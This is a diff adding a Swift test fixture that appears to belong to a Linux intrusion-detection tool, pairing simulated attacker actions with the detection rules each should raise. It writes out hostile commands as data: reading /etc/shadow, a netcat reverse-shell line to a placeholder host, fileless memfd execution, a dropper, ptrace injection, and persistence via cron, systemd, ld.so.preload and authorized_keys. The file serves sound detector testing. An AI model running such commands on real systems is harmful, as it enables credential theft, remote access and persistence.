@@ -1,0 +1,165 @@
+import Foundation
+
+/// The real actions that must raise each default rule: what an attacker (or the rule's variant: a
+/// relative path, a symlink, a renamed binary) does on this machine. Setup runs outside the traced
+/// cgroup; only the action is traced, and its process (or the child it prints) is the alert's pid.
+struct DetectTrigger {
+    let name: String
+    /// Shell commands run untraced before the action (copies, symlinks, files to act on).
+    let setup: String
+    /// The traced action, run by `/bin/sh -c` after it joined the test cgroup, `exec`'d so its pid is known.
+    let action: String
+    /// Every rule expected for the alert's pid: exactly one alert each, and no other rule.
+    let rules: [String]
+    /// The action prints the pid the alert is about (a child it started) on its last output line.
+    var printsPid = false
+    /// Shell commands run untraced afterwards (files outside the test folder to remove).
+    var cleanup = ""
+
+    static let python = "/usr/bin/python3"
+
+    /// Every trigger, with `dir` the test's own folder (not world-writable, not hidden) and `id` a
+    /// unique suffix for files outside it.
+    static func all(dir: String, id: String) -> [DetectTrigger] {
+        let py = python
+        let ptraceAttach = """
+        import ctypes, os, signal, time
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+        child = os.fork()
+        if child == 0:
+            time.sleep(30); os._exit(0)
+        assert libc.ptrace(16, child, None, None) == 0, ctypes.get_errno()
+        os.waitpid(child, 0)
+        libc.ptrace(REQUEST, child, ctypes.c_void_p(0x1000), None)
+        libc.ptrace(17, child, None, None)
+        os.kill(child, signal.SIGKILL); os.waitpid(child, 0)
+        """
+        let dropper = """
+        import os, shutil
+        os.chdir('\(dir)')
+        shutil.copyfile('/bin/true', 'WRITTEN')
+        os.chmod('CHMODDED', 0o755)
+        os.execv('EXECUTED', ['payload'])
+        """
+        return [
+            DetectTrigger(name: "read /etc/shadow", setup: "", action: "exec cat /etc/shadow > /dev/null",
+                          rules: ["Read sensitive file untrusted"]),
+            DetectTrigger(name: "read shadow by a relative path", setup: "", action: "cd /etc && exec cat shadow > /dev/null",
+                          rules: ["Read sensitive file untrusted"]),
+            DetectTrigger(name: "traversal to /etc", setup: "", action: "cd /usr/share && exec cat ../../etc/hostname > /dev/null",
+                          rules: ["Directory traversal monitored file read"]),
+            DetectTrigger(name: "traversal, absolute", setup: "", action: "exec cat /usr/share/../../etc/hostname > /dev/null",
+                          rules: ["Directory traversal monitored file read"]),
+            DetectTrigger(name: "refused shadow five times", setup: "",
+                          action: "exec setpriv --reuid=65534 --regid=65534 --clear-groups cat /etc/shadow /etc/gshadow /etc/shadow /etc/gshadow /etc/shadow 2>/dev/null",
+                          rules: ["Repeated denied access to sensitive files"]),
+            DetectTrigger(name: "refused shadow five times, relative", setup: "",
+                          action: "cd /etc && exec setpriv --reuid=65534 --regid=65534 --clear-groups cat shadow shadow gshadow gshadow shadow 2>/dev/null",
+                          rules: ["Repeated denied access to sensitive files"]),
+            DetectTrigger(name: "find private keys", setup: "", action: "exec find /nonexistent-\(id) -name id_rsa 2>/dev/null",
+                          rules: ["Search private keys or passwords"]),
+            DetectTrigger(name: "find private keys through a symlink", setup: "ln -sf /usr/bin/find \(dir)/ff",
+                          action: "exec \(dir)/ff /nonexistent-\(id) -name id_ed25519 2>/dev/null",
+                          rules: ["Search private keys or passwords"]),
+            DetectTrigger(name: "grep AWS keys", setup: "", action: "exec grep -r aws_access_key_id /nonexistent-\(id) 2>/dev/null",
+                          rules: ["Find AWS credentials"]),
+            DetectTrigger(name: "grep AWS keys through a symlink", setup: "ln -sf /usr/bin/grep \(dir)/gg",
+                          action: "exec \(dir)/gg -r aws_secret_access_key /nonexistent-\(id) 2>/dev/null",
+                          rules: ["Find AWS credentials"]),
+            DetectTrigger(name: "shell from nginx", setup: "cp \(py) \(dir)/nginx",
+                          action: "exec \(dir)/nginx -c \"import subprocess; p = subprocess.Popen(['/bin/sh', '-c', 'exit 0']); p.wait(); print(p.pid)\"",
+                          rules: ["Run shell untrusted"], printsPid: true),
+            DetectTrigger(name: "shell from postgres (renamed)", setup: "cp \(py) \(dir)/postgres",
+                          action: "exec \(dir)/postgres -c \"import subprocess; p = subprocess.Popen(['/bin/bash', '-c', 'exit 0']); p.wait(); print(p.pid)\"",
+                          rules: ["Run shell untrusted"], printsPid: true),
+            DetectTrigger(name: "run from /tmp", setup: "cp /bin/true /tmp/isx-\(id)", action: "exec /tmp/isx-\(id)",
+                          rules: ["Execution from a world-writable directory"], cleanup: "rm -f /tmp/isx-\(id)"),
+            DetectTrigger(name: "run from /dev/shm, relative", setup: "cp /bin/true /dev/shm/isy-\(id)", action: "cd /dev/shm && exec ./isy-\(id)",
+                          rules: ["Execution from a world-writable directory"], cleanup: "rm -f /dev/shm/isy-\(id)"),
+            DetectTrigger(name: "run from a hidden folder", setup: "mkdir -p \(dir)/.hidden && cp /bin/true \(dir)/.hidden/tool",
+                          action: "exec \(dir)/.hidden/tool", rules: ["Execution from a hidden directory"]),
+            DetectTrigger(name: "run from a hidden folder, relative", setup: "mkdir -p \(dir)/.cachex && cp /bin/true \(dir)/.cachex/tool2",
+                          action: "cd \(dir) && exec .cachex/tool2", rules: ["Execution from a hidden directory"]),
+            DetectTrigger(name: "fexecve of a memfd", setup: "",
+                          action: "exec \(py) -c \"import os; fd = os.memfd_create('x', 0); os.write(fd, open('/bin/true', 'rb').read()); os.execve(fd, ['x'], {})\"",
+                          rules: ["Fileless execution via memfd_create"]),
+            DetectTrigger(name: "exec of /proc/self/fd of a memfd", setup: "",
+                          action: "exec \(py) -c \"import os; fd = os.memfd_create('y', 0); os.write(fd, open('/bin/true', 'rb').read()); os.execv('/proc/self/fd/%d' % fd, ['y'])\"",
+                          rules: ["Fileless execution via memfd_create"]),
+            DetectTrigger(name: "dropper", setup: "",
+                          action: "exec \(py) -c \"\(dropper.replacingOccurrences(of: "WRITTEN", with: "\(dir)/payload").replacingOccurrences(of: "CHMODDED", with: "\(dir)/payload").replacingOccurrences(of: "EXECUTED", with: "\(dir)/payload"))\"",
+                          rules: ["Drop and execute new binary"]),
+            DetectTrigger(name: "dropper, relative paths", setup: "",
+                          action: "exec \(py) -c \"\(dropper.replacingOccurrences(of: "WRITTEN", with: "payload2").replacingOccurrences(of: "CHMODDED", with: "./payload2").replacingOccurrences(of: "EXECUTED", with: "../\((dir as NSString).lastPathComponent)/payload2"))\"",
+                          rules: ["Drop and execute new binary"]),
+            DetectTrigger(name: "netcat -e", setup: "cp /bin/true \(dir)/nc", action: "exec \(dir)/nc -e /bin/sh 198.51.100.7 4444",
+                          rules: ["Netcat remote code execution"]),
+            DetectTrigger(name: "ncat --sh-exec through a symlink", setup: "ln -sf /bin/true \(dir)/ncat", action: "exec \(dir)/ncat --sh-exec /bin/sh 198.51.100.7 4444",
+                          rules: ["Netcat remote code execution"]),
+            DetectTrigger(name: "shred", setup: "echo data > \(dir)/junk1", action: "exec shred -u \(dir)/junk1",
+                          rules: ["Remove bulk data from disk"]),
+            DetectTrigger(name: "shred through a symlink", setup: "echo data > \(dir)/junk2 && ln -sf /usr/bin/shred \(dir)/wiper",
+                          action: "exec \(dir)/wiper -u \(dir)/junk2", rules: ["Remove bulk data from disk"]),
+            DetectTrigger(name: "insmod", setup: "cp /bin/true \(dir)/insmod", action: "exec \(dir)/insmod /nonexistent-\(id).ko",
+                          rules: ["Kernel module load tool executed"]),
+            DetectTrigger(name: "modprobe through a symlink", setup: "ln -sf /bin/true \(dir)/modprobe", action: "cd \(dir) && exec ./modprobe dummy",
+                          rules: ["Kernel module load tool executed"]),
+            DetectTrigger(name: "ptrace attach and poke", setup: "",
+                          action: "exec \(py) -c \"\(ptraceAttach.replacingOccurrences(of: "REQUEST", with: "5"))\"",
+                          rules: ["PTRACE attached to process"]),
+            DetectTrigger(name: "ptrace attach by a renamed interpreter", setup: "cp \(py) \(dir)/helper",
+                          action: "exec \(dir)/helper -c \"\(ptraceAttach.replacingOccurrences(of: "REQUEST", with: "4"))\"",
+                          rules: ["PTRACE attached to process"]),
+            DetectTrigger(name: "PTRACE_TRACEME", setup: "",
+                          action: "exec \(py) -c \"import ctypes; ctypes.CDLL(None).ptrace(0, 0, None, None)\"",
+                          rules: ["PTRACE anti-debug attempt"]),
+            DetectTrigger(name: "PTRACE_TRACEME by a renamed interpreter", setup: "cp \(py) \(dir)/guard",
+                          action: "exec \(dir)/guard -c \"import ctypes; ctypes.CDLL(None).ptrace(0, 0, None, None)\"",
+                          rules: ["PTRACE anti-debug attempt"]),
+            DetectTrigger(name: "chmod u+s", setup: "touch \(dir)/suid", action: "exec chmod u+s \(dir)/suid",
+                          rules: ["Set setuid or setgid bit"]),
+            DetectTrigger(name: "chmod 2755, relative", setup: "touch \(dir)/sgid", action: "cd \(dir) && exec chmod 2755 sgid",
+                          rules: ["Set setuid or setgid bit"]),
+            DetectTrigger(name: "cron.d file", setup: "", action: "exec touch /etc/cron.d/infrasight-it-\(id)",
+                          rules: ["Crontab modified"], cleanup: "rm -f /etc/cron.d/infrasight-it-\(id)"),
+            DetectTrigger(name: "cron.d file, relative", setup: "", action: "cd /etc/cron.d && exec touch infrasight-it2-\(id)",
+                          rules: ["Crontab modified"], cleanup: "rm -f /etc/cron.d/infrasight-it2-\(id)"),
+            DetectTrigger(name: "systemd unit", setup: "", action: "exec touch /etc/systemd/system/infrasight-it-\(id).service",
+                          rules: ["Systemd unit written"], cleanup: "rm -f /etc/systemd/system/infrasight-it-\(id).service"),
+            DetectTrigger(name: "systemd unit, relative", setup: "", action: "cd /etc/systemd && exec touch system/infrasight-it2-\(id).service",
+                          rules: ["Systemd unit written"], cleanup: "rm -f /etc/systemd/system/infrasight-it2-\(id).service"),
+            DetectTrigger(name: "ld.so.preload opened for append", setup: "",
+                          action: "exec \(py) -c \"open('/etc/ld.so.preload', 'a').close()\"",
+                          rules: ["Dynamic linker preload written"], cleanup: "[ -s /etc/ld.so.preload ] || rm -f /etc/ld.so.preload"),
+            DetectTrigger(name: "ld.so.preload, relative", setup: "", action: "cd /etc && exec touch ./ld.so.preload",
+                          rules: ["Dynamic linker preload written"], cleanup: "[ -s /etc/ld.so.preload ] || rm -f /etc/ld.so.preload"),
+            DetectTrigger(name: "authorized_keys", setup: "mkdir -p \(dir)/home/.ssh", action: "exec touch \(dir)/home/.ssh/authorized_keys",
+                          rules: ["SSH authorized keys modified"]),
+            DetectTrigger(name: "authorized_keys2, relative", setup: "mkdir -p \(dir)/home/.ssh", action: "cd \(dir)/home && exec touch .ssh/authorized_keys2",
+                          rules: ["SSH authorized keys modified"]),
+            DetectTrigger(name: "truncate a log", setup: "", action: "exec \(py) -c \"open('/var/log/infrasight-it-\(id).log', 'w').close()\"",
+                          rules: ["Clear log activities"], cleanup: "rm -f /var/log/infrasight-it-\(id).log"),
+            DetectTrigger(name: "truncate a log, relative", setup: "", action: "cd /var/log && exec \(py) -c \"open('infrasight-it2-\(id).log', 'w').close()\"",
+                          rules: ["Clear log activities"], cleanup: "rm -f /var/log/infrasight-it2-\(id).log"),
+            DetectTrigger(name: "connect from /tmp", setup: "cp \(py) /tmp/pyx-\(id)",
+                          action: "exec /tmp/pyx-\(id) -c \"import socket; s = socket.socket(); s.settimeout(0.3); s.connect_ex(('198.51.100.7', 80))\"",
+                          rules: ["Execution from a world-writable directory", "Outbound connection from a binary in a world-writable directory"],
+                          cleanup: "rm -f /tmp/pyx-\(id)"),
+            DetectTrigger(name: "connect from /dev/shm, relative", setup: "cp \(py) /dev/shm/pyy-\(id)",
+                          action: "cd /dev/shm && exec ./pyy-\(id) -c \"import socket; s = socket.socket(); s.settimeout(0.3); s.connect_ex(('198.51.100.7', 443))\"",
+                          rules: ["Execution from a world-writable directory", "Outbound connection from a binary in a world-writable directory"],
+                          cleanup: "rm -f /dev/shm/pyy-\(id)"),
+            DetectTrigger(name: "ssh to port 2222", setup: "",
+                          action: "exec ssh -F /dev/null -i /dev/null -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 2222 198.51.100.7 true 2>/dev/null",
+                          rules: ["Disallowed SSH connection non standard port"]),
+            DetectTrigger(name: "ssh to port 8022 through a relative symlink", setup: "ln -sf /usr/bin/ssh \(dir)/ssh",
+                          action: "cd \(dir) && exec ./ssh -F /dev/null -i /dev/null -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 8022 198.51.100.7 true 2>/dev/null",
+                          rules: ["Disallowed SSH connection non standard port"]),
+        ]
+    }
+
+    /// Rules that need a container; they are triggered in `podman` by the container test.
+    static let containerRules: Set<String> = ["Contact K8S API server from container", "Mount launched in container",
+                                              "Debugfs launched in container", "Detect release_agent file container escapes"]
+}
